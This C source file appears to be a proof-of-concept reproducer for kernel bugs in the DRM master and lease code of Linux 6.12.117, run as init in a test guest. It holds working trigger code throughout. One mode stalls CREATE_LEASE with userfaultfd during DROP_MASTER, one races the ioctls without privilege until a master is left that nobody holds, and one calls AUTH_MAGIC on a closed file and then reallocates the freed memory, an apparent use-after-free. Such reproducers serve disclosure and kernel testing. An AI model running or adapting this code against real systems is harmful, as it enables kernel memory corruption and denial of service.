// SPDX-License-Identifier: Apache-2.0
/*
 * Two things that were read in drm_auth.c and drm_lease.c of 6.12.117, made to happen.  Process 1 of a guest whose
 * modules are in /modules; "lease", "race" or "magic" is the last word on the kernel's command line, behind "--".
 *
 * lease: a master drops while CREATE_LEASE waits for the page with the list of objects (userfaultfd holds it).
 * race: the same without userfaultfd and without any privilege: the two calls are made until it happens.
 * magic: a guest founds a group of its own and is closed; its old group still knows its magic number.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define VGEM "/dev/dri/card0"
#define VKMS "/dev/dri/card1"
#define PAGE 4096ul
#define TRIES 1000000

struct lease { uint64_t ids; uint32_t count, flags, lessee, fd; };
struct resources { uint64_t pointers[4]; uint32_t counts[4], sizes[4]; };

#define SET_MASTER _IO('d', 0x1e)
#define DROP_MASTER _IO('d', 0x1f)
#define GET_MAGIC _IOR('d', 0x02, uint32_t)
#define AUTH_MAGIC _IOW('d', 0x11, uint32_t)
#define GET_RESOURCES _IOWR('d', 0xa0, struct resources)
#define CREATE_LEASE _IOWR('d', 0xc6, struct lease)

static int card, watcher;
static char *held;
static uint32_t objects[2];

static int asked(int fd, unsigned long number, void *argument)
{
	return ioctl(fd, number, argument) ? -errno : 0;
}

static void say(const char *what, long answer)
{
	printf("finding: %s: %s\n", what, answer < 0 ? strerror(-answer) : "done");
	fflush(stdout);
}

static int node(const char *path)
{
	int fd = open(path, O_RDWR);

	if (fd < 0)
		say("open", -errno);
	return fd;
}

static void load(const char *name, const char *parameters)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/modules/%s.ko", name);
	fd = open(path, O_RDONLY);
	if (fd < 0 || syscall(SYS_finit_module, fd, parameters, 0))
		say(path, -errno);
	close(fd);
}

static void show(const char *path)
{
	char text[4096];
	int fd = open(path, O_RDONLY);
	long n = read(fd, text, sizeof(text) - 1);

	printf("%.*s", n > 0 ? (int)n : 0, text);
	close(fd);
}

/* The other thread: when the copy of the list faults, drop, and only then give the page. */
static void *drops(void *unused)
{
	static char page[PAGE] __attribute__((aligned(4096)));
	struct uffd_msg message;
	struct uffdio_copy copy = { .dst = (uint64_t)held, .src = (uint64_t)page, .len = PAGE };

	if (read(watcher, &message, sizeof(message)) != sizeof(message))
		say("fault", -errno);
	say("DROP_MASTER while CREATE_LEASE runs", asked(card, DROP_MASTER, 0));
	memcpy(page, objects, sizeof(objects));
	if (ioctl(watcher, UFFDIO_COPY, &copy))
		say("copy", -errno);
	return unused;
}

static void lease(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register area = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	struct resources found = { .pointers = { [1] = (uint64_t)&objects[0], [2] = (uint64_t)&objects[1] }, .counts = { [1] = 1, [2] = 1 } };
	struct lease wanted = { .count = 2 };
	pthread_t other;
	int late;

	held = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	area.range.start = wanted.ids = (uint64_t)held;
	area.range.len = PAGE;
	watcher = syscall(SYS_userfaultfd, O_CLOEXEC);
	if (watcher < 0 || ioctl(watcher, UFFDIO_API, &api) || ioctl(watcher, UFFDIO_REGISTER, &area))
		say("userfaultfd", -errno);
	if (chmod(VKMS, 0666) || setresuid(1000, 1000, 1000))
		say("setresuid", -errno);	/* what follows needs no privilege of the process */
	card = node(VKMS);
	say("GETRESOURCES", asked(card, GET_RESOURCES, &found));
	pthread_create(&other, NULL, drops, NULL);
	say("CREATE_LEASE", asked(card, CREATE_LEASE, &wanted));
	pthread_join(other, NULL);
	say("SET_MASTER of the former master", asked(card, SET_MASTER, 0));
	close(wanted.fd);
	close(card);
	printf("finding: all are closed\n");
	late = node(VKMS);
	say("DROP_MASTER of a later client", asked(late, DROP_MASTER, 0));
	say("SET_MASTER of a later client", asked(late, SET_MASTER, 0));
}

/* The other thread of `race`. */
static void *drops_again(void *over)
{
	while (!*(volatile int *)over)
		asked(card, DROP_MASTER, 0);
	return over;
}

/* Until SET_MASTER is refused, though the only client that may be master has dropped. */
static void race(void)
{
	struct lease empty;
	pthread_t other;
	int over = 0, i, last = 0;

	if (chmod(VKMS, 0666) || setresuid(1000, 1000, 1000))
		say("setresuid", -errno);
	card = node(VKMS);
	pthread_create(&other, NULL, drops_again, &over);
	for (i = 0; i < TRIES && last != -EBUSY; i++) {
		memset(&empty, 0, sizeof(empty));
		if (!asked(card, CREATE_LEASE, &empty))
			close(empty.fd);
		last = asked(card, SET_MASTER, 0);
	}
	over = 1;
	pthread_join(other, NULL);
	say(last == -EBUSY ? "a master that nobody has" : "nothing", 0);
	printf("finding: tries: %d\n", i);
	close(card);
}

/* From an administrator's process, when all that was before is closed. */
static void late_administrator(void)
{
	int late = node(VKMS);

	say("SET_MASTER of an administrator", asked(late, SET_MASTER, 0));
	say("DROP_MASTER of an administrator", asked(late, DROP_MASTER, 0));
	show("/sys/kernel/debug/dri/1/clients");
}

static void magic(void)
{
	int first = node(VGEM), guest = node(VGEM), next[8], i;
	uint32_t number = 0;

	say("GET_MAGIC of the guest", asked(guest, GET_MAGIC, &number));
	say("DROP_MASTER", asked(first, DROP_MASTER, 0));
	say("SET_MASTER of the guest", asked(guest, SET_MASTER, 0));
	close(guest);
	say("SET_MASTER again", asked(first, SET_MASTER, 0));
	say("AUTH_MAGIC of a closed file", asked(first, AUTH_MAGIC, &number));
	for (i = 0; i < 8; i++)
		next[i] = node(VGEM);	/* allocates again what was freed */
	for (i = 0; i < 8; i++)
		close(next[i]);
	close(first);
}

int main(int count, char **arguments)
{
	const char *what = arguments[count - 1];	/* the kernel puts words of its own before */

	mount("proc", "/proc", "proc", 0, 0);
	mount("sys", "/sys", "sysfs", 0, 0);
	mount("dev", "/dev", "devtmpfs", 0, 0);
	mount("debug", "/sys/kernel/debug", "debugfs", 0, 0);
	load("drm", "");
	load("drm_kms_helper", "fbdev_emulation=0");
	load("drm_shmem_helper", "");
	load("vgem", "");
	load("vkms", "");
	if (!strcmp(what, "magic")) {
		magic();
	} else if (fork() == 0) {
		strcmp(what, "race") ? lease() : race();
		return 0;
	} else {
		while (wait(NULL) > 0)
			;
		late_administrator();
	}
	return reboot(RB_POWER_OFF);
}
